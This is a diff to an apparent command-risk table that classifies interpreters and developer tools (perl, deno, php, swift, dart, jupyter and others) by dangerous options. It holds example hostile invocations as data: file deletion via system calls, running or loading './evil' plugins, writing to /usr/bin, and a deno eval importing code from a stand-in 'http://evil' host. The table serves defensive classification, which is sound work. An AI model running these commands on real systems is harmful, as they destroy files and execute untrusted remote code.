@@ -17,7 +17,8 @@ RECORDS = (
         broad="-n, -p, -pi, -M", task="2", example="perl -e 'system(\"rm x\")'"),
     Program("raku perl6", language="raku", options="-e! -n -p -c -v -I: -M:", broad="-e",
         example="raku -e 'shell \"rm x\"'"),
-    Program("crystal", language="ruby", broad="eval, run", worst="run ./evil",
+    Program("crystal", language="ruby", broad="eval, run, play, i", task="2 tool=3", worst="exact spec build docs; "
+        "[tool] exact format; run ./evil; write -o /usr/bin/x; run --link-flags=-fplugin=./evil",
         example="crystal eval 'system(\"rm x\")'"),
     Program("ruby", language="ruby", options="-a -c -l -n -p -s -S -v -w -W? -d -h -y -F: -i? -r: -I: -C: -E: -K: -T? "
         "-x? -e! -0 -1 -2 -3 -4 -5 -6 -7 -8 -9 --disable: --enable:", prints="input", writes="rest if -i, named",
@@ -28,13 +29,15 @@ RECORDS = (
         "--interactive --no-warnings --harmony", prints="input", broad="-r, --require, -i", task="2",
         example="node -e 'require(\"child_process\").execSync(\"rm x\")'"),
     Program("deno", language="javascript", options="-p --print --ext:", broad="eval, run, repl, task, x, install",
-        task="2 run=0 task=3", fetches=True, worst="[task] target deploy; [test] run -A; [test] load -c /tmp/evil; "
-        "[fmt] elsewhere /; [lint] elsewhere /; files test fmt lint check; run eval 'import(\"http://evil\")'",
-        example="deno eval 'require(\"child_process\").execSync(\"rm x\")'"),
+        task="2 run=0 task=3", fetches=True, worst="[task] named; [task] target deploy; [test] run -A; [test] run "
+        "--allow-run; [test] run --allow-all; [test] load -c /tmp/evil; [fmt] elsewhere /; [lint] elsewhere /; files "
+        "fmt lint; exact test check doc info coverage; [] run eval 'import(\"http://evil\")'", example="deno eval "
+        "'require(\"child_process\").execSync(\"rm x\")'"),
     Program("php", language="php", options="-a -i -l -m -n -q -s -v -w -B! -R! -E! -r! -d: -c: -f: -F: -S: -t: -z: "
-        "--run!", prints="input", broad="-a, artisan, bin/console", task="2 artisan=3 bin/console=3",
-        worst="[] run ./evil; [artisan] exact test about; [artisan] run tinker --execute 'evil()'",
-        example="php -r 'system(\"rm x\");'"),
+        "--run!", prints="input", broad="-a, artisan, bin/console, artisan tinker, artisan db", task="2 artisan=3 "
+        "bin/console=3", worst="[] run ./evil; [artisan] exact test about route:list migrate:status view:cache "
+        "route:cache event:list schedule:list list; [artisan] run tinker --execute 'evil()'; [artisan] elsewhere test "
+        "--env=production", example="php -r 'system(\"rm x\");'"),
     Program("lua luajit", language="c", options="-e! -l: -i -v -W", broad="-i, -l",
         example="lua -e 'os.execute(\"rm x\")'"),
     Program("Rscript", language="r", options="-e! --vanilla --verbose", example="Rscript -e 'system(\"rm x\")'"),
@@ -59,8 +62,8 @@ RECORDS = (
         "./evil", example="clojure -e '(sh \"rm\" \"x\")'"),
     Program("ghci runghc runhaskell", language="c", options="-e!", broad="-e, run", worst="run ./evil",
         example="ghci <<< 'callCommand \"rm x\"'"),
-    Program("iex jshell jjs jrunscript ocaml utop kotlin kotlinc babel-node vite-node nim "
-        "v wasmtime wasmer artisan manage.py", broad="-e, run", worst="run ./evil"),
+    Program("iex jshell jjs jrunscript ocaml utop kotlin kotlinc babel-node vite-node "
+        "wasmtime wasmer artisan manage.py", broad="-e, run", worst="run ./evil"),
     Program("java javaw", broad="-jar", worst="run -jar ./evil.jar"),
     Program("octave octave-cli", language="c", options="--eval! -q -W -f", example="octave --eval 'system(\"rm x\")'"),
     Program("maxima", language="c", options="--batch-string! -r! --run-string! -b: --very-quiet",
@@ -68,13 +71,14 @@ RECORDS = (
     Program("exiftool", language="perl", options="-if!", example="exiftool -if 'system(\"rm x\")' a"),
     Program("bpftrace", Wrapper("-e: -p: -d -l -v -o: -B: -f: --unsafe --usdt-file-activation"), language="c",
         options="-e! -c: -p: -d -v -o: -B: -f:", settings="-c!", example="bpftrace -c 'rm x' -e 1"),
-    Program("swift", broad="run, repl", task="2", fetches=True, worst="run -Xswiftc -load-plugin-executable=./evil; "
-        "elsewhere --package-path /tmp; [run] target x; fetch --repl"),
-    Program("dart", leading="-v --verbose --enable-analytics --disable-analytics --suppress-analytics",
-        broad="run, compile, pub", task="2 pub=3", fetches=True, worst="files test analyze format; [] run run "
-        "./evil.dart; load --packages=/tmp/evil; elsewhere /tmp"),
-    Program("jupyter", broad="nbconvert, execute, run, lab, notebook, console", task="2",
-        worst="run nbconvert --execute evil.ipynb"),
+    Program("swift", broad="run, repl", task="2 package=3", fetches=True, worst="exact build test format; [package] "
+        "exact describe dump-package show-dependencies; run -Xswiftc -load-plugin-executable=./evil; elsewhere "
+        "--package-path /tmp; [run] target x; fetch --repl"),
+    Program("dart", leading="-v --verbose --enable-analytics --disable-analytics --suppress-analytics", broad="run, "
+        "compile, pub", task="2 pub=3 run=4", fetches=True, worst="files test analyze format; exact fix; "
+        "[build_runner] exact build; [] run run ./evil.dart; load --packages=/tmp/evil; elsewhere /tmp"),
+    Program("jupyter", broad="nbconvert, execute, run, lab, notebook, console", task="2 "
+        "kernelspec=3", worst="[kernelspec] exact list; run nbconvert --execute evil.ipynb"),
     Program("papermill streamlit uvicorn gunicorn celery locust k6 airflow prefect dagster", task="0", broad="",
         worst="run ./evil"),
 )
